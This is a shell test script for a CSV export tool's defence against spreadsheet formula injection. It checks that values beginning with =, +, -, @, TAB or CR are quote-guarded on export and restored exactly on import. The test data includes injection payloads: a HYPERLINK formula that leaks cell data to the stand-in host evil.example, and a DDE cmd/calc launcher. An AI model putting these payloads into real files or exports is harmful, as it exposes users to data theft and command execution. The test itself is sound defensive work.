# test_csv_guard.sh — issue 10, item 11: CSV formula injection. A value
# that a spreadsheet would run as a formula (beginning with = + - @ TAB or
# CR) is exported quoted with a ' before it, and import --restore of that
# export gives back every value exactly (one guard quote removed, only
# where export adds one), so the round trip still holds.
. "$(dirname "$0")/lib.sh"

new_store src
DB=$NEW_STORE
run -d "$DB" grant --source '=HYPERLINK("http://evil.example/?x="&A1,"Click")' \
    --evidence '+1+cmd|'"'"' /C calc'"'"'!A0' --at 2024-05-01T00:00:00Z -- -info@example.com
expect_status 0 "grant with formula-like source and evidence to -info@"
run -d "$DB" grant --source '@SUM(1)' --evidence "'=already quoted" --at 2024-05-01T00:00:00Z \
    at@example.com
expect_status 0 "grant with @ source and an evidence that begins with '="
run -d "$DB" grant --source "$(printf '\tTAB')" --evidence "'plain quote" --at 2024-05-01T00:00:00Z \
    tab@example.com
expect_status 0 "grant with a TAB source and an evidence that begins with a plain quote"

run -d "$DB" export
expect_status 0 "export"
cp "$OUT" "$T/export.csv"
expect_out_has '"'"'"'-info@example.com",' "export: the address that begins with - is guarded"
expect_out_has ',"'"'"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",' "export: = guarded"
expect_out_has ',"'"'"'+1+cmd|' "export: + guarded"
expect_out_has ',"'"'"'@SUM(1)",' "export: @ guarded"
expect_out_has ",\"''=already quoted\"," "export: a value that begins with '= gets one quote more"
expect_out_has ",'plain quote," "export: a plain leading quote is left alone"
expect_out_has "$(printf ',"'"'"'\tTAB",')" "export: a leading TAB guarded"
# No cell of the export begins with a formula character.
expect_true "export: no bare formula cell" python3 -c '
import csv, sys
for row in csv.reader(open(sys.argv[1], newline="")):
    for cell in row:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            sys.exit("bare formula cell: %r" % cell)
' "$T/export.csv"

run -d "$DB" export --format json
cp "$OUT" "$T/export.json"
expect_out_has '"address":"-info@example.com"' "json export: values as they are"

new_store copy
run -d "$NEW_STORE" import --restore "$T/export.csv"
expect_status 0 "import --restore of the guarded export"
run -d "$NEW_STORE" export
expect_same_file "$T/export.csv" "$OUT" "round trip: the CSV export is identical"
run -d "$NEW_STORE" export --format json
expect_same_file "$T/export.json" "$OUT" "round trip: every value came back exactly"

# A plain import of a hand-made file: the guard quote is removed too.
printf "address,action,source\n\"'-sales@example.com\",grant,\"'=web form\"\n" >"$T/hand.csv"
run -d "$NEW_STORE" import "$T/hand.csv"
expect_status 0 "import of guarded fields"
run -d "$NEW_STORE" show -- -sales@example.com
expect_out_has "source==web form" "import: the guard quote removed from the source"
finish
